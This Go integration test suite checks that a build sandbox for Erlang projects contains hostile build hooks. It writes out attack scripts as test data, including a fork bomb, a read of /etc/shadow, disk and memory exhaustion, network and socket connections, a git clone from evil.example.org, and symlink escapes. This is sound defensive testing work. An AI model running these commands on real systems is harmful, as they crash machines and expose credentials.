//go:build integration

package images_test

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"beamsandbox/images"
)

// hostile is a project whose build runs a shell script of its author's.
func hostile(script string) map[string]string {
	return map[string]string{
		"rebar.config":    `{pre_hooks, [{compile, "sh hostile.sh"}]}.` + "\n",
		"hostile.sh":      script,
		"src/bad.app.src": `{application, bad, [{description, "x"}, {vsn, "1.0.0"}, {applications, [kernel, stdlib]}]}.`,
	}
}

// stranger listens on the machine and counts who comes.
func stranger(t *testing.T, network, address string) (net.Listener, *atomic.Int64) {
	t.Helper()
	l, err := net.Listen(network, address)
	if err != nil {
		t.Fatal(err)
	}
	came, done := new(atomic.Int64), make(chan struct{})
	go func() {
		defer close(done)
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			came.Add(1)
			c.Close()
		}
	}()
	t.Cleanup(func() { l.Close(); <-done })
	return l, came
}

// None of these gets out, and each ends with a message that names what it hit.
func TestHostileBuilds(t *testing.T) {
	_, cfg := rooms(t)
	cfg.Memory, cfg.Disk, cfg.Timeout = 256<<20, 128<<20, time.Minute
	secret := filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(secret, []byte("the-machine-s-own"), 0o644); err != nil {
		t.Fatal(err)
	}
	listener, came := stranger(t, "tcp", "127.0.0.1:0")
	port := listener.Addr().(*net.TCPAddr).Port
	_, socket := stranger(t, "unix", "@beamsandbox-hostile-"+filepath.Base(filepath.Dir(secret)))
	erl := func(expression string) string { return fmt.Sprintf("exec erl -noshell -eval '%s'", expression) }
	for name, tt := range map[string]struct{ script, want string }{
		"reads the machine's files": {"cat " + secret + " /etc/shadow && exit 0; echo nothing there; exit 1", "No such file or directory"},
		"opens a connection to the machine": {erl(fmt.Sprintf(
			`io:format("~p~n", [[gen_tcp:connect(A, %d, [], 2000) || A <- [{127,0,0,1}, {10,0,2,2}]]]), halt(1).`, port)), "econnrefused"},
		"opens a connection to the world": {erl(`io:format("~p~n", [gen_tcp:connect({192,0,2,1}, 443, [], 2000)]), halt(1).`), "enetunreach"},
		"asks for a name":                 {erl(`io:format("~p~n", [inet:gethostbyname("example.org")]), halt(1).`), "nxdomain"},
		"opens the machine's own sockets": {erl(fmt.Sprintf(
			`io:format("~p~n", [gen_tcp:connect({local, <<0, "beamsandbox-hostile-%s">>}, 0, [local])]), halt(1).`, filepath.Base(filepath.Dir(secret)))), "econnrefused"},
		"forks without end":              {"f() { f | f & wait; }; f; sleep 30", "reached its limit of processes"},
		"forks and gives up":             {"n=0; while [ $n -lt 2000 ]; do sleep 60 & n=$((n+1)); done; exit 1", "reached its limit of processes"},
		"fills its disk":                 {"cat /dev/zero > /build/src/zero", "it filled its disk of 128 MB"},
		"makes files without end":        {"n=0; mkdir f; while : > f/$n; do n=$((n+1)); done", "it filled its disk of 128 MB"},
		"takes all memory":               {erl(`F = fun(F, L) -> F(F, [binary:copy(<<1>>, 10000000) | L]) end, F(F, []).`), "was killed at its memory limit of 256 MB"},
		"never ends":                     {"while :; do sleep 1; done", "took longer than its time limit of 10s"},
		"writes outside of its tree":     {"echo x > /usr/bin/sh && exit 0; exit 1", "Read-only file system"},
		"writes to the kernel":           {"echo x > /proc/sys/kernel/hostname && exit 0; exit 1", "Read-only file system"},
		"becomes another user":           {erl(`io:format("~p~n", [file:change_owner("/build/src", 0, 0)]), halt(1).`), "{error,e"},
		"asks for an undeclared host":    {"git clone https://evil.example.org/x.git", "it asked for the git repository https://evil.example.org/x.git: neither the project nor its lock file declares it"},
		"asks for the machine's folders": {"git clone file:///etc", "it asked for the git repository file:///etc: neither"},
		"mounts a device":                {erl(`io:format("~p~n", [file:read_file_info("/dev/vda")]), halt(1).`), "enoent"},
	} {
		t.Run(name, func(t *testing.T) {
			c := cfg
			c.Root = filepath.Join(t.TempDir(), "images")
			if strings.HasPrefix(name, "forks") {
				c.Memory = 1 << 30 // a build's default: processes run out before it does
			}
			if name == "never ends" || name == "forks without end" {
				c.Timeout = 10 * time.Second // the others end by themselves, later on a busy machine
			}
			s := open(t, c)
			start := time.Now()
			refused(t, s, recipe("bad", source(t, "", hostile(tt.script))), tt.want)
			if took := time.Since(start); took > 90*time.Second {
				t.Errorf("it took %v", took)
			}
			if log := buildLog(t, c, "bad"); strings.Contains(log, "the-machine-s-own") {
				t.Error("it read the machine's file")
			}
			nothingLeft(t, c)
		})
	}
	if came.Load() != 0 || socket.Load() != 0 {
		t.Errorf("%d connections to the machine, %d to its sockets", came.Load(), socket.Load())
	}
}

// nothingLeft: no folder and no mount of a build outlives it.
func nothingLeft(t *testing.T, cfg images.Config) {
	t.Helper()
	left, err := filepath.Glob(filepath.Join(cfg.Root, "work", "*"))
	if err != nil || len(left) != 0 {
		t.Errorf("left behind: %v, %v", left, err)
	}
	mounts, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil || strings.Contains(string(mounts), cfg.Root) {
		t.Errorf("a mount is left below %s, %v", cfg.Root, err)
	}
}

// A link in the output leads nowhere, wherever its author pointed it.
func TestHostileLinks(t *testing.T) {
	_, cfg := rooms(t)
	secret := filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(secret, []byte("the-machine-s-own"), 0o644); err != nil {
		t.Fatal(err)
	}
	const rel = "/build/src/_build/prod/rel/bad"
	for name, tt := range map[string]struct{ script, want string }{
		"a file":               {"cd " + rel + "/lib/kernel-*/ebin && ln -s " + secret + " secret.beam", "/ebin/secret.beam: path escapes"},
		"the release":          {"mv " + rel + " /build/r && ln -s " + filepath.Dir(secret) + " " + rel, "rel/bad: path escapes"},
		"its configuration":    {"cd " + rel + "/releases/1.0.0 && rm -f sys.config && ln -s " + secret + " sys.config", "releases/1.0.0/sys.config: path escapes"},
		"through another link": {"cd " + rel + "/lib && ln -s ../../../../../../../../.. up && ln -s up" + secret + " down", "lib/down: path escapes"},
		"a socket": {`erl -noshell -eval '{ok, _} = gen_tcp:listen(0, [{ifaddr, {local, "` + rel + `/lib/s"}}]), halt(0).'`,
			`"lib/s" is neither a file nor a folder`},
	} {
		t.Run(name, func(t *testing.T) {
			files := hostile("set -e\n" + tt.script + "\necho planted\n")
			files["rebar.config"] = `{post_hooks, [{release, "sh hostile.sh"}]}.` + "\n"
			c := cfg
			c.Root = filepath.Join(t.TempDir(), "images")
			refused(t, open(t, c), recipe("bad", source(t, "", files)), tt.want)
			if log := buildLog(t, c, "bad"); !strings.Contains(log, "planted\n") {
				t.Errorf("the author could not plant it: %s", log)
			}
			nothingLeft(t, c)
		})
	}
}

// What a killed daemon left mounted is gone when the next one starts.
func TestSweepsUnfinishedBuilds(t *testing.T) {
	_, cfg := rooms(t)
	left := filepath.Join(cfg.Root, "work", "bad-1", "guest")
	if err := os.MkdirAll(left, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mount("tmpfs", left, "tmpfs", 0, "size=1m"); err != nil {
		t.Fatal(err)
	}
	open(t, cfg)
	nothingLeft(t, cfg)
}
